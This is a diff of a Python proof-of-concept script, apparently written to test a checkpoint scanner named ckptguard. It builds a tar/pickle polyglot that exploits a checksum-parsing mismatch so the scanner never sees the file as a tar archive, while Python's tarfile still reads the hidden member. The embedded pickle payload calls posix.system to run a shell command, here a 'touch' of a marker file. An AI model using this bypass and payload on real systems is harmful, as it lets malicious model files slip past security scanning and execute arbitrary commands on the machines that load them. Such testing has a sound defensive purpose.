@@ -10,21 +10,13 @@ ckptguard's DetectArchive/TarChecksumOk accepts only octal digits in the checksu
 is never seen as a tar; Python's tarfile.nti reads the field with int(s, 8), which accepts "0o".
 Usage: tar_legacy_polyglot.py OUT MARKER"""
 import sys, struct
+from tarblocks import header as tar_header
 
 MAGIC = b'\x80\x02\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19.'
 PROTO = b'\x80\x02M\xe9\x03.'
 def payload(marker):
     return b"cposix\nsystem\n(S'touch " + marker.encode() + b"'\ntR."
 def s(x): return b'X' + struct.pack('<I', len(x)) + x
-def tar_header(name, size, chk_style='0o'):
-    h = bytearray(512)
-    h[0:len(name)] = name
-    h[100:108] = b'0000644\0'; h[108:116] = b'0000000\0'; h[116:124] = b'0000000\0'
-    h[124:136] = b'%011o\0' % size; h[136:148] = b'00000000000\0'; h[156:157] = b'0'
-    h[257:263] = b'ustar\0'; h[263:265] = b'00'
-    h[148:156] = b' ' * 8
-    h[148:156] = b'%06o\0 ' % sum(h)
-    return bytes(h)
 def build(marker):
     pay = payload(marker)
     tail = tar_header(b'storages', len(pay)) + pay      # what Python's tarfile reads from offset 512 on
@@ -49,7 +41,6 @@ def build(marker):
     if pad % 2: noops += b'r\0\0\0\0'; pad -= 5
     noops += b'q\0' * (pad // 2)
     p4p = b'\x80\x02]' + noops + s(b'0') + b'a.'
-    block = bytearray(512)
     out = bytearray(MAGIC + PROTO)
     out += b'\x80\x02}' + s(b'pad') + b'C' + bytes([L]) + b'\0' * L + b's.'
     out += p3(n) + p4p
